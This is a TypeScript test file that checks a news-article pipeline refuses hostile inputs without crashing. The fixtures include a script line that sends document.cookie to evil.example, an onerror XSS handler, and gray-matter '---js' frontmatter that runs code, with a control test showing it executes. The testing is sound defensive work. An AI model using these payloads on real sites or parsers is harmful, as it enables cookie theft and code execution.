/**
 * Hostile input, stage by stage and through the whole pipeline: empty and whitespace-only files,
 * binary bytes, invalid UTF-8 (read as Windows-1252 with a warning), a file over the size limit,
 * script markup in a .txt, executable `---js` frontmatter (refused and never run), and a 1 MB
 * single paragraph. Nothing may throw; every refusal is a problem with its rule id.
 */
import { existsSync, readFileSync } from 'node:fs';
import { mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import matter from 'gray-matter';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readArticle } from '../../scripts/pipeline/articles.ts';
import { classify } from '../../scripts/pipeline/classify.ts';
import { clean } from '../../scripts/pipeline/clean.ts';
import { compare } from '../../scripts/pipeline/compare.ts';
import { extract, learnPeople } from '../../scripts/pipeline/extract.ts';
import { identify } from '../../scripts/pipeline/identify.ts';
import { run, type RunResult } from '../../scripts/pipeline/index.ts';
import { match } from '../../scripts/pipeline/match/index.ts';
import { personKey } from '../../scripts/pipeline/people.ts';
import { segment } from '../../scripts/pipeline/segment.ts';
import { renderClaim, renderSource } from '../../scripts/pipeline/render.ts';
import type { RawArticle } from '../../scripts/pipeline/types.ts';
import { splitFile } from '../helpers/pipeline.ts';

const enc = (s: string): Uint8Array => new TextEncoder().encode(s);
const SENTENCES = [
  'The harbour authority said on Tuesday that 40 ships were waiting to unload.',
  'Port director Maren Lusk said the repairs would cost 2.3 million euros.',
  '“We will reopen the north quay before the winter storms,” Lusk said.',
  'More than 300 dock workers returned to work after the strike ended.',
  'The union said the agreement raised wages by 6% over two years.',
];
/** About 1 MB of prose with no line break: one paragraph. */
const MEGABYTE_PARAGRAPH = Array.from({ length: 1_000_000 / 70 }, (_, i) => SENTENCES[i % SENTENCES.length]).join(' ');
const MARKER = (dir: string): string => path.join(dir, 'EXECUTED');
const JS_FRONTMATTER = (target: string): string =>
  `---js\n{ title: (require('fs').writeFileSync(${JSON.stringify(target)}, 'frontmatter was executed'), 'Pwned') }\n---\nThe council approved the budget on Monday, the mayor said in a statement.\n`;

/** The hostile files, by name, and the rule each must be reported under (null: read normally). */
function hostileFiles(dir: string): Array<{ name: string; bytes: Uint8Array; rule: string | null; fatal: boolean }> {
  return [
    { name: 'empty.txt', bytes: new Uint8Array(), rule: 'article-empty', fatal: true },
    { name: 'whitespace.txt', bytes: enc(' \n\t\n   \r\n\u00A0\n'), rule: 'article-empty', fatal: true },
    { name: 'binary.txt', bytes: Uint8Array.from({ length: 4096 }, (_, i) => (i * 7919) % 256), rule: 'article-binary', fatal: true },
    {
      name: 'cp1252.txt',
      bytes: Uint8Array.from([...enc('Mayor Aino Lahti said '), 0x93, ...enc('we will rebuild every house in the valley'), 0x94, ...enc(' on Monday, the caf'), 0xe9, ...enc(' owners said.\n')]),
      rule: 'article-encoding',
      fatal: false,
    },
    { name: 'large.txt', bytes: enc(`${SENTENCES.join(' ')}\n`.repeat(Math.ceil((6 * 1024 * 1024) / 360))), rule: 'article-too-large', fatal: true },
    { name: 'script.txt', bytes: enc('Council news\nThe council met on Monday.<script>fetch("https://evil.example/?c=" + document.cookie)</script>\n'), rule: 'article-markup', fatal: true },
    { name: 'handler.txt', bytes: enc('Council news\n<img src=x onerror="alert(1)"> The council met on Monday and approved 12 buses.\n'), rule: 'article-markup', fatal: true },
    { name: 'executable.md', bytes: enc(JS_FRONTMATTER(MARKER(dir))), rule: 'frontmatter-engine', fatal: true },
    { name: 'megabyte.txt', bytes: enc(MEGABYTE_PARAGRAPH), rule: null, fatal: false },
  ];
}

/** Runs every pure stage on the given raw articles; returns what write would write. */
function throughEveryStage(raws: readonly RawArticle[]): string[] {
  const articles = raws.filter((r) => !r.problems.some((p) => p.fatal)).map(clean).map(segment);
  const people = learnPeople(articles);
  const mentions = articles.flatMap((a) => extract(a, people));
  const byId = new Map(articles.map((a) => [a.id, a]));
  const drafts = compare(match(mentions), byId);
  classify(drafts, [{ id: 'port', order: 1, keywords: ['harbour', 'quay'], text: 'The port' }]);
  identify(drafts, [], byId);
  const claims = drafts.map((d) => ({ ...d, verdict: null, pillar: null, hidden: false, mergeInto: null, reviewer: null, confirmed: null, note: '', orphaned: false, supersededBy: null, lastSeen: [], review: null, changedSinceReview: false }));
  return [...claims.map(renderClaim), ...articles.map((a) => renderSource(a, claims))];
}

describe('hostile articles, stage by stage', () => {
  const scratch = path.join(tmpdir(), 'triangulate-hostile-unused');
  for (const file of hostileFiles(scratch).filter((f) => f.name !== 'megabyte.txt')) {
    it(`${file.name}: read with the right problem, and no stage throws`, () => {
      const raw = readArticle(file.name.replace(/\..*$/, ''), `articles/${file.name}`, file.bytes);
      const rules = raw.problems.map((p) => `${p.rule}${p.fatal ? '' : ' (warning)'}`);
      expect(rules).toEqual(file.rule ? [`${file.rule}${file.fatal ? '' : ' (warning)'}`] : []);
      for (const p of raw.problems) {
        expect(p.file).toBe(`articles/${file.name}`);
        expect(p.message).toMatch(/\.$/);
      }
      if (file.fatal) expect(raw.blocks).toEqual([]);
      expect(() => throughEveryStage([raw])).not.toThrow();
    });
  }

  it('reads invalid UTF-8 as Windows-1252', () => {
    const file = hostileFiles(scratch).find((f) => f.name === 'cp1252.txt');
    const raw = readArticle('cp1252', 'articles/cp1252.txt', file?.bytes ?? new Uint8Array());
    expect(raw.blocks.join('\n')).toContain('“we will rebuild every house in the valley” on Monday, the café owners');
    const a = segment(clean(raw));
    const m = extract(a, learnPeople([a]));
    expect(personKey(m.find((x) => x.kind === 'quote')?.speaker ?? '')).toBe('lahti');
  });

  it('reads a page in another charset as the charset it declares', () => {
    const bytes = readFileSync(path.join(import.meta.dirname, '../fixtures/encodings/shift-jis.html'));
    const raw = readArticle('tokyo', 'articles/tokyo.html', bytes);
    expect(raw.meta.title).toBe('東京都が防災計画を発表');
    expect(raw.blocks.join('\n')).toContain('三十か所の避難所を整備し');
    expect(raw.problems.map((p) => `${p.rule} ${p.fatal}: ${p.message}`)).toEqual([
      'article-encoding false: File is not valid UTF-8; read it as shift_jis, the charset the page declares. Re-save it as UTF-8 to silence this warning.',
    ]);
  });

  it('survives odd characters in otherwise readable text', () => {
    const text = 'Port news\nThe \u202Eharbour\u202C reopened\u200B on Monday\u00AD, said director Maren Lusk. 🚢 \uFFFD\u0007\u001B[31m red\nLusk said 40 ships waited.\n';
    const raw = readArticle('odd', 'articles/odd.txt', enc(text));
    expect(raw.problems.filter((p) => p.fatal)).toEqual([]);
    const written = throughEveryStage([raw, raw]);
    expect(written.length).toBeGreaterThan(0);
  });
});

describe('hostile articles through the whole pipeline', () => {
  let dir = '';
  let result: RunResult;

  beforeAll(async () => {
    dir = await mkdtemp(path.join(tmpdir(), 'triangulate-hostile-'));
    await mkdir(path.join(dir, 'articles'));
    await mkdir(path.join(dir, 'pillars'));
    await writeFile(path.join(dir, 'site.md'), '---\ntitle: Hostile\ndescription: Hostile input\n---\n');
    await writeFile(path.join(dir, 'pillars', 'port.md'), '---\ntitle: Port\norder: 1\nkeywords: [harbour, quay]\n---\nThe port.\n');
    for (const f of hostileFiles(dir)) await writeFile(path.join(dir, 'articles', f.name), f.bytes);
    await writeFile(path.join(dir, 'articles', 'not-an-article.html'), '<html><body><nav><a href="/">Home</a></nav></body></html>');
    result = await run(dir);
  }, 120_000);
  afterAll(() => rm(dir, { recursive: true, force: true }));

  it('finishes, reporting each refused file under its rule', () => {
    expect(result.ok).toBe(true);
    const byFile = Object.fromEntries(result.problems.map((p) => [p.file, `${p.rule}${p.fatal ? '' : ' (warning)'}`]));
    for (const f of hostileFiles(dir)) {
      expect(byFile[`articles/${f.name}`]).toBe(f.rule === null ? undefined : `${f.rule}${f.fatal ? '' : ' (warning)'}`);
    }
    expect(byFile['articles/not-an-article.html']).toBe('article-not-article');
  });

  it('writes sources only for the readable files: the Windows-1252 one and the 1 MB paragraph', () => {
    expect(result.sources).toBe(2);
    expect(result.write?.written.filter((f) => f.startsWith('sources/')).sort()).toEqual(['sources/cp1252.md', 'sources/megabyte.md']);
    expect(result.sentences).toBeGreaterThan(10_000);
  });

  it('keeps the 1 MB paragraph in its cleaned source', async () => {
    // (Parsing 1 MB of Markdown back takes remark many seconds; write.test.ts checks the round trip.)
    const { body } = splitFile(await readFile(path.join(dir, 'sources', 'megabyte.md'), 'utf8'));
    expect(body.length).toBeGreaterThanOrEqual(MEGABYTE_PARAGRAPH.length);
    for (const s of SENTENCES) expect(body).toContain(s.slice(0, 30));
    expect(body.split(/\n\n/).length).toBe(1);
  });

  it('never executes `---js` frontmatter', () => {
    expect(existsSync(MARKER(dir))).toBe(false);
    const p = result.problems.find((x) => x.file === 'articles/executable.md');
    expect(p?.message).toContain('never run');
  });

  it('uses a payload that does run when a parser executes frontmatter (the control)', async () => {
    const control = await mkdtemp(path.join(tmpdir(), 'triangulate-control-'));
    try {
      // gray-matter's own js engine evaluates the frontmatter: the payload writes its marker file.
      const parsed = matter(JS_FRONTMATTER(MARKER(control)), { excerpt: false });
      expect(parsed.data['title']).toBe('Pwned');
      expect(existsSync(MARKER(control))).toBe(true);
    } finally {
      await rm(control, { recursive: true, force: true });
    }
  });
});
